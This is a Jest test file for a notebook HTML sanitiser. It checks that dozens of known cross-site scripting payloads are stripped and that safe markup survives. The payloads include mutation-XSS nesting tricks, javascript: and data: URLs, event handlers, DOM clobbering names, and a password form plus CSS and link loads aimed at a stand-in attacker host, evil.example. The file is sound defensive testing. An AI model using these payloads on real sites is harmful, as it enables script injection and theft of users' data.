import { describe, expect, test } from "@jest/globals";
import { sanitise, serialise } from "../../../src/notebook/html/sanitise.js";
import { parseHtml } from "../../viz/page.js";
import { pixel } from "./notebooks.js";
import { dangers } from "./page.js";

const clean = (html: string) => serialise(sanitise(html));

/** As a browser reads it behind other text. */
const opened = (html: string) => parseHtml(`<!doctype html><main>${html}</main>`);

/** Attacks that have got through sanitisers, or are what every sanitiser must withstand. */
const attacks = [
  // Markup that is read differently the second time.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math><mtext><mglyph><style><math><table id="</table>"><img src onerror=alert(1)"></style></mglyph></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<svg><desc><noscript></svg><img src=x onerror=alert(1)></noscript></desc></svg>`,
  `<svg><foreignObject><p><style><!--</style><img src="--><img src=x onerror=alert(1)>"></p></foreignObject></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><img src=x onerror=alert(1)>`,
  `<title><p title="</title><img src=x onerror=alert(1)>"></title>`,
  `<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">`,
  `<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><script>alert(1)</script></template>`,
  `<template>`.repeat(30) + `<script>alert(1)</script>`,
  `<table><td><table><caption><img src=x onerror=alert(1)></caption></table></td></table>`,
  `<!--><img src=x onerror=alert(1)>--><!--! --!><img src=x onerror=alert(1)>`,
  `<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)>?>`,
  // Scripts by address.
  `<a href="javascript:alert(1)">a</a><a href=" \u0001JaVaScRiPt&colon;alert(1)">b</a><a href="java&Tab;script:alert(1)">c</a>`,
  `<a href="vbscript:x">a</a><a href="data:text/html,<script>alert(1)</script>">b</a><a href="blob:x">c</a>`,
  `<img src="javascript:alert(1)"><img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><animate attributeName=href values=javascript:alert(1)>`,
  `<math href="javascript:alert(1)">x</math><maction actiontype="statusline" xlink:href="javascript:alert(1)">y</maction>`,
  `<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button><isindex action=javascript:alert(1)>`,
  // Handlers.
  `<b onclick=alert(1) ONMOUSEOVER=alert(1) onfocus=alert(1) tabindex=0 autofocus>b</b><body onload=alert(1)>`,
  `<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><details open ontoggle=alert(1)>`,
  `<img/src/onerror=alert(1)><img src=x:x onerror\u000b=alert(1)><svg/onload=alert(1)>`,
  `<x-element onclick=alert(1)>x</x-element><p is="x-paragraph" onclick=alert(1)>y</p>`,
  // What changes the page around it, or loads something.
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<link rel=stylesheet href="https://evil.example"><link rel=import href="https://evil.example">`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x"><applet code=x>`,
  `<frameset onload=alert(1)><frame src="https://evil.example"></frameset>`,
  `<form action="https://evil.example"><input name=password><input type=image src="https://evil.example/x"></form>`,
  `<style>@import "https://evil.example"; body { display: none }</style>`,
  `<p style="background:url(https://evil.example/x)">a</p><p style="position:fixed;inset:0;z-index:9">b</p>`,
  `<p style="text-align:right;background-image:\\75\\72\\6c(https://evil.example)">a</p><p style="width:expression(alert(1))">b</p>`,
  `<img src="https://evil.example/x.png" srcset="https://evil.example/y.png 2x" lowsrc=z><picture><source srcset=x></picture>`,
  `<table background="https://evil.example/x"><td background="https://evil.example/y">x</td></table>`,
  `<a href="https://example.org" ping="https://evil.example" target=_top download>x</a>`,
  // Names that scripts would take for something else.
  `<a id=content>a</a><a id=location name=body>b</a><img name=cookie alt=x><p id=getElementById>c</p>`,
  `<form id=a><input name=attributes><input name=childNodes><input name=parentNode></form><form name=body></form>`,
];

describe("attacks leave nothing behind", () => {
  test.each(attacks)("%s", (html) => {
    const left = clean(html);
    const document = opened(left);
    expect(dangers(document)).toEqual([]);
    expect(
      document.querySelectorAll("script, svg, math, form, noscript, [class], [name], [target]"),
    ).toHaveLength(0);
    const names = Array.from(document.querySelectorAll("[id]"), ({ id }) => id);
    expect(names.filter((id) => !id.startsWith("section-"))).toEqual([]);
    expect(left).not.toMatch(/(?:style|href|src)="[^"]*(?:evil|script:|text\/html)/);
    // What is read otherwise the next time is how scripts get through.
    expect(document.querySelector("main")!.innerHTML).toBe(left);
    expect(clean(left)).toBe(left);
  });
});

describe("what may stay", () => {
  test.each([
    `<p title="a <b> &amp; c" dir="rtl" lang="he">x</p>`,
    `<details open=""><summary>s</summary><ol start="3" type="a" reversed=""><li value="2">x</li></ol></details>`,
    `<table><caption>c</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="col">h</th></tr></thead></table>`,
    `<table><tbody><tr><td colspan="2" rowspan="3" style="text-align:right;white-space:nowrap">x</td></tr></tbody></table>`,
    `<a href="https://example.org/a?b=c#d">a</a><a href="mailto:a@example.org">b</a><a href="../README.md">c</a>`,
    `<a href="//example.org/x">a</a><a href="/x:y">b</a><a href="?q=javascript:x">c</a>`,
    `<a href="#section-x">a</a><a id="section-y">b</a>`,
    `<img src="data:image/png;base64,${pixel}" alt="p" width="10" height="20">`,
    ` <p>white space before</p>`,
    `1 &lt; 2 &amp; <code>&lt;script&gt;</code>`,
  ])("%s", (html) => {
    expect(clean(html)).toBe(html);
  });

  test("other elements give way to their content", () => {
    expect(clean(`<section><font color=red>a <b>b</b></font></section><button>c</button>`)).toBe(
      `a <b>b</b>c`,
    );
  });

  test("anchors keep their names, within the page's own", () => {
    expect(clean(`<a name="Here">a</a><a href="#Here">b</a>`)).toBe(
      `<a id="section-here">a</a><a href="#section-here">b</a>`,
    );
  });

  test("pictures that the notebook holds are put in, others are named", () => {
    const address = `data:image/png;base64,${pixel}`;
    const resolve = (name: string) => (name === "attachment:a.png" ? address : undefined);
    expect(serialise(sanitise(`<img src="attachment:a.png"><img src="b.png" alt="b"><img>`, resolve))).toBe(
      `<img src="${address}">[picture: b][picture: not in this file]`,
    );
  });
});

// Megabytes: see sanitise.slow.ts.
describe("large HTML", () => {
  test("a table of a thousand rows stays", () => {
    const table = `<table><tbody>${`<tr>${"<td>1</td>".repeat(4)}</tr>`.repeat(1000)}</tbody></table>`;
    expect(clean(table)).toBe(table);
  });

  test("of too many tags a note is left", () => {
    expect(clean("<i>".repeat(30_000))).toBe("[HTML of 30,000 tags, which is too large to show]");
  });
});
